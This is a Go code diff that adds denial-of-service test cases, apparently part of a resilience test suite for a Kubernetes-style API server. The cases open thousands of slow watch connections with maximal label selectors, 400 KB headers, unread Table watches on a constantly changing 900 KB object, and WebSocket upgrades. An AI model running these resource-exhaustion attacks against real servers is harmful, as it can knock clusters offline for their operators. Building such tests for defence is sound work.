@@ -4,6 +4,7 @@ import (
 	"context"
 	"fmt"
 	"net/http"
+	"strings"
 	"sync"
 )
 
@@ -38,6 +39,44 @@ func watches() []Attack {
 			Does: "Does the same with 35,000 terms about the object's name.",
 			Run: func(ctx context.Context, a *Attacker) error {
 				return open("fieldSelector="+items(35_000, numbered("metadata.name!=n")))(ctx, a)
+			},
+		},
+		{
+			Group: "watches", Name: "terms", Answers: 200,
+			Does: "Opens 1,000 watches whose label selectors have 8,000 terms, as many as are allowed.",
+			Run: func(ctx context.Context, a *Attacker) error {
+				path := configMaps + "?watch=1&labelSelector=" + items(8000, numbered("!k"))
+				return a.dribble(ctx, 1000, head("GET", path, attacker)+"\r\n")
+			},
+		},
+		{
+			Group: "watches", Name: "headers", Answers: 200,
+			Does: "Opens 2,000 watches with headers of 400 KB.",
+			Run: func(ctx context.Context, a *Attacker) error {
+				long := "X-Long: " + strings.Repeat("x", 400_000) + "\r\n"
+				return a.dribble(ctx, 2000, head("GET", configMaps+"?watch=1", attacker)+long+"\r\n")
+			},
+		},
+		{
+			Group: "watches", Name: "tables", Answers: 200,
+			Does: "Opens 1,000 watches of Tables that it doesn't read, and changes an object of 900 KB all the time.",
+			Run: func(ctx context.Context, a *Attacker) error {
+				var changing sync.WaitGroup
+				changing.Go(func() { a.change(ctx, 900<<10) })
+				defer changing.Wait()
+				return a.dribble(ctx, 1000, head("GET", configMaps+"?watch=1&includeObject=Object", attacker)+
+					"Accept: application/json;as=Table;g=meta.k8s.io;v=v1\r\n\r\n")
+			},
+		},
+		{
+			Group: "watches", Name: "sockets", Answers: 200,
+			Does: "Does the same over WebSockets, of objects.",
+			Run: func(ctx context.Context, a *Attacker) error {
+				var changing sync.WaitGroup
+				changing.Go(func() { a.change(ctx, 900<<10) })
+				defer changing.Wait()
+				return a.dribble(ctx, 1000, head("GET", configMaps+"?watch=1", attacker)+"Connection: Upgrade\r\n"+
+					"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: YXR0YWNraW5nYXR0YWNraQ==\r\n\r\n")
 			},
 		},
 		{
